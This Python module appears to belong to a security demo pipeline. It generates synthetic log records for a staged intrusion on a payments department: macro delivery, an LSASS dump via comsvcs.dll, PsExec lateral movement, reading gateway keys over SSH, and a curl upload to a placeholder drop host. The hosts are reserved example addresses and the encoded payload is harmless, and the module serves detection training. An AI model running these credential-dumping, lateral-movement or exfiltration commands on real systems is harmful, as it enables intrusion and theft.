r"""The attack hidden in the day, true to what the systems would write, and the one early sign that nobody saw.

A payments clerk opens an invoice (delivery); LSASS is dumped on her desk (credential theft); with the stolen service
account the attacker goes to a server by PsExec (lateral movement), from there over SSH to the payment gateway, and
sends what he found to a host outside (exfiltration). Five weeks earlier the same desk had asked for a name of his.

The stages share desk, server, person and service account, which is what makes one incident of them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any, Final

from pipeline.demo import logons, network, unix, windows
from pipeline.demo.cast import DOMAIN, Host, Person
from pipeline.demo.programs import OFFICE, POWERSHELL, S32, Program
from pipeline.demo.scene import Message, Scene, account, logon_id
from pipeline.demo.shapes import SYSMON, utc_time

#: Addresses of TEST-NET-2 and -3 and names under `.example`: nobody's.
CONTROL: Final = ("invoice-portal.example", "198.51.100.23")
DROP: Final = ("upload.paste-drop.example", "203.0.113.77")
#: What the hunt's new indicator names; the attack's day does not hold it.
EARLY: Final = ("sync.metrics-edge.example", "198.51.100.99")
SERVICE_ACCOUNT: Final = "svc_payops"
GATEWAY: Final = "pay-gw-01"
SERVER: Final = "srv-app-07"
PAST_DAYS: Final = 38

_MINUTE: Final = 60_000
_STAGING: Final = "C:\\ProgramData\\pgw\\"


@dataclass(frozen=True, slots=True)
class Stage:
    """One stage: a word, what it is for people, and its records in order."""

    name: str
    title: str
    records: tuple[Message, ...]


@dataclass(frozen=True, slots=True)
class Plot:
    """Who is hit."""

    scene: Scene
    victim: Person
    desk: Host
    server: Host
    gateway: Host


def plot(scene: Scene) -> Plot:
    """Choose the victim: one of the payments department, whose desk is ws-017."""
    victim = scene.cast.department("payments")[16]
    return Plot(scene, victim, scene.seat(victim), scene.cast.host(SERVER), scene.cast.host(GATEWAY))


def attack(at: Plot, start_ms: int) -> tuple[Stage, ...]:
    """The five stages on the day that starts at `start_ms` (local midnight, milliseconds UTC)."""
    return tuple(
        Stage(name, title, tuple(play(at, start_ms + minutes * _MINUTE))) for name, title, minutes, play in _STAGES
    )


def early_contact(at: Plot, time_ms: int) -> Message:
    """The name looked up before any rule or indicator knew it."""
    browser = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    return windows.lookup(at.scene, at.desk, time_ms, browser, account(at.victim), *EARLY)


def _delivery(at: Plot, t: int) -> Iterator[Message]:
    user, logon = account(at.victim), logon_id(at.victim.account, at.desk.name)
    attachment = (
        f"C:\\Users\\{at.victim.account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2LM9QX1\\"
        "Счёт-фактура ЭСФ 4471.docm"
    )
    yield _file(at, at.desk, t, OFFICE + "OUTLOOK.EXE", attachment, user)
    word = Program(
        OFFICE + "WINWORD.EXE", OFFICE + "OUTLOOK.EXE", f'"{OFFICE}WINWORD.EXE" /n "{attachment}" /o ""',
        "Microsoft Corporation", "Microsoft Word",
    )  # fmt: skip
    yield windows.process(at.scene, at.desk, t + 4_000, word, user, logon=logon)
    # The encoded words are "Write-Output qorgan-demo", in UTF-16: even copied out it does nothing.
    encoded = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABxAG8AcgBnAGEAbgAtAGQAZQBtAG8A"
    shell = Program(
        POWERSHELL, OFFICE + "WINWORD.EXE", f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded}",
        "Microsoft Corporation", "Windows PowerShell",
    )  # fmt: skip
    yield windows.process(
        at.scene, at.desk, t + 19_000, shell, user, logon=logon, parent_command=word.command, folder=S32
    )
    yield windows.lookup(at.scene, at.desk, t + 21_000, POWERSHELL, user, *CONTROL)
    yield windows.connection(at.scene, at.desk, t + 21_400, POWERSHELL, user, CONTROL[1], 443, CONTROL[0])


def _credentials(at: Plot, t: int) -> Iterator[Message]:
    user, logon, dump = account(at.victim), logon_id(at.victim.account, at.desk.name), "C:\\Users\\Public\\dbg.dmp"
    rundll = Program(
        S32 + "rundll32.exe", POWERSHELL, f"rundll32.exe {S32}comsvcs.dll, MiniDump 712 {dump} full",
        "Microsoft Corporation", "Windows host process (Rundll32)",
    )  # fmt: skip
    yield windows.process(at.scene, at.desk, t, rundll, user, logon=logon, level="High")
    trace = (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
        "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ee1|C:\\Windows\\SYSTEM32\\comsvcs.dll+2a4f1|UNKNOWN(00000251A7F10000)"
    )
    yield windows.accessed(at.scene, at.desk, t + 300, rundll.image, user, "0x1fffff", trace)
    yield _file(at, at.desk, t + 2_100, rundll.image, dump, user)


def _lateral(at: Plot, t: int) -> Iterator[Message]:
    service = f"{DOMAIN}\\{SERVICE_ACCOUNT}"
    stolen = Person(SERVICE_ACCOUNT, "Сервис платежей", "payments", at.victim.sid[:-4] + "9041", 0)
    tool = "C:\\Users\\Public\\PsExec64.exe"
    yield logons.explicit(at.scene, at.desk, t, at.victim, SERVICE_ACCOUNT, at.server, S32 + "svchost.exe")
    psexec = Program(
        tool, POWERSHELL, f"{tool} \\\\{at.server.name} -accepteula -h cmd.exe",
        "Sysinternals - www.sysinternals.com", "Execute processes remotely",
    )  # fmt: skip
    yield windows.process(at.scene, at.desk, t + 800, psexec, service, level="High")
    yield logons.logon(at.scene, at.server, t + 1_400, stolen, 3, at.desk.ip, "NTLM")
    shell = Program(
        S32 + "cmd.exe", "C:\\Windows\\PSEXESVC.exe", '"cmd.exe"', "Microsoft Corporation", "Command Processor"
    )
    yield windows.process(at.scene, at.server, t + 2_600, shell, service, level="High")
    # Earlier than the shell by its own clock; its log is shipped behind Sysmon's.
    yield at.scene.windows(at.server, t + 1_900, "System", 7045, {
        "ServiceName": "PSEXESVC",
        "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    })  # fmt: skip


def _payment(at: Plot, t: int) -> Iterator[Message]:
    service = f"{DOMAIN}\\{SERVICE_ACCOUNT}"
    plink = Program(
        _STAGING + "plink.exe", S32 + "cmd.exe",
        f"plink.exe -ssh -batch {SERVICE_ACCOUNT}@{at.gateway.name} -pw ********",
        "Simon Tatham", "Command-line SSH, Telnet, and Rlogin client",
    )  # fmt: skip
    yield windows.process(at.scene, at.server, t, plink, service, level="High", folder=_STAGING)
    yield windows.connection(at.scene, at.server, t + 300, plink.image, service, at.gateway.ip, 22, at.gateway.name)
    yield unix.accepted(at.scene, at.gateway, t + 900, SERVICE_ACCOUNT, at.server.ip, "password")
    keys = "/opt/payments/keys/swift-lau.pem"
    yield unix.sudo(at.gateway, t + 41_000, 20_417, SERVICE_ACCOUNT, f"/usr/bin/cat {keys}")
    yield unix.syscall(at.gateway, t + 41_050, 884_120, "/usr/bin/cat", auid=1_044, key="keys", tty="pts0")
    yield unix.execve(at.gateway, t + 41_050, 884_120, ("cat", keys))
    yield unix.opened(at.gateway, t + 41_050, 884_120, keys)
    yield unix.execve(
        at.gateway, t + 62_000, 884_131, ("tar", "-czf", "/var/spool/.p.tgz", "/opt/payments/keys", "/opt/payments/out")
    )


def _exfiltration(at: Plot, t: int) -> Iterator[Message]:
    service = f"{DOMAIN}\\{SERVICE_ACCOUNT}"
    name, address = DROP
    curl = Program(
        S32 + "curl.exe", S32 + "cmd.exe", f"curl.exe -s -F file=@{_STAGING}p.tgz http://{name}/u",
        "curl, https://curl.se/", "The curl executable",
    )  # fmt: skip
    yield windows.process(at.scene, at.server, t, curl, service, level="High", folder=_STAGING)
    yield windows.lookup(at.scene, at.server, t + 40, curl.image, service, name, address)
    yield windows.connection(at.scene, at.server, t + 80, curl.image, service, address, 80, name)
    addresses: dict[str, Any] = network.tuple_of(at.scene, at.server.ip, address, 80)
    request = {
        "hostname": name,
        "url": "/u",
        "http_user_agent": "curl/8.9.1",
        "http_method": "POST",
        "protocol": "HTTP/1.1",
        "status": 200,
        "length": 27,
        "request_body_len": 188_301_442,
    }
    yield network.record(t + 9_000, "http", addresses, http=request)
    signature = (1_000_417, "LOCAL large upload from a server zone to an unclassified host")
    yield network.alert(at.scene, t + 9_100, addresses, signature, 1, "Potential Corporate Privacy Violation")
    yield network.flow(at.scene, t + 21_000, at.server.ip, address, 80, 188_420_113, 61_204, "http")


def _file(at: Plot, host: Host, t: int, image: str, target: str, user: str) -> Message:
    data = {
        "RuleName": "-",
        "UtcTime": utc_time(t),
        "ProcessGuid": at.scene.guid(),
        "ProcessId": at.scene.number(900, 21_000),
        "Image": image,
        "TargetFilename": target,
        "CreationUtcTime": utc_time(t),
        "User": user,
    }
    return at.scene.windows(host, t, SYSMON, 11, data)


_STAGES: Final[tuple[tuple[str, str, int, Callable[[Plot, int], Iterator[Message]]], ...]] = (
    ("delivery", "Delivery: a document in the mail starts PowerShell", 607, _delivery),
    ("credentials", "Credential theft: LSASS is dumped at the desk", 641, _credentials),
    ("lateral", "Lateral movement: a service account, PsExec, a server", 678, _lateral),
    ("payment", "Payment system: the gateway's keys are read", 712, _payment),
    ("exfiltration", "Exfiltration: an archive is sent outside", 751, _exfiltration),
)
